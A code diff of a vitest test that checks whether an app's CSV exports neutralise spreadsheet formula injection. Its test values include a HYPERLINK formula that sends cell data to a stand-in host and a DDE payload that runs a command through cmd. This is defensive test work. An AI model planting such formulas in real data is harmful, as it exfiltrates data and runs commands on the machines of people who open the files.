@@ -4,14 +4,14 @@
  * the demo database, as a careless or hostile data entry would) leaves in every open-data and
  * search-export CSV with a leading apostrophe; the JSON keeps the text as stored.
  */
-import { queryRows } from '@rnt/db/create-db';
 import { parse } from 'csv-parse/sync';
 import { sql, type SQL } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from './helpers/test-app';
+import { testRows } from '@rnt/db/testing';
 
 let t: TestApp;
-const one = async <T>(query: SQL) => (await queryRows<T>(t.database.db, query))[0]!;
+const one = async <T>(query: SQL) => (await testRows<T>(t.database.db, query))[0]!;
 
 const INSTITUCION = '=HYPERLINK("http://evil.example/?"&A1,"Ver")';
 const REQUISITO = "@SUM(1+1)*cmd|' /C calc'!A0";
@@ -32,17 +32,17 @@ beforeAll(async () => {
         JOIN tramites tr ON tr.id = m.tramite_id JOIN unidades u ON u.id = tr.unidad_id
         WHERE m.estado_id IN (SELECT id FROM estados_solicitud WHERE visible_portal) ORDER BY r.id LIMIT 1`,
   ));
-  await queryRows(
+  await testRows(
     t.database.db,
     sql`UPDATE instituciones SET nombre = ${INSTITUCION} WHERE id = ${institucionId}`,
   );
-  await queryRows(
+  await testRows(
     t.database.db,
     sql`UPDATE requisitos SET nombre = ${REQUISITO} WHERE id = (SELECT min(r.id) FROM requisitos r
         JOIN modalidades m ON m.id = r.modalidad_id WHERE r.tipo_requisito_id IN (1, 2) AND r.fecha_eliminacion IS NULL
         AND m.estado_id IN (SELECT id FROM estados_solicitud WHERE visible_portal))`,
   );
-  await queryRows(
+  await testRows(
     t.database.db,
     sql`UPDATE oficinas SET nombre = ${OFICINA} WHERE id = (SELECT min(oficina_id) FROM contactos_oficinas)`,
   );
@@ -50,7 +50,7 @@ beforeAll(async () => {
     sql`UPDATE regulaciones SET nombre = ${REGULACION} WHERE id = (SELECT min(r.id) FROM regulaciones r
         JOIN tipos_normativa tn ON tn.id = r.tipo_solicitud_id WHERE tn.visible_portal) RETURNING tipo_solicitud_id`,
   ));
-  await queryRows(
+  await testRows(
     t.database.db,
     sql`UPDATE resoluciones SET numero = ${RESOLUCION} WHERE id = (SELECT min(id) FROM resoluciones)`,
   );
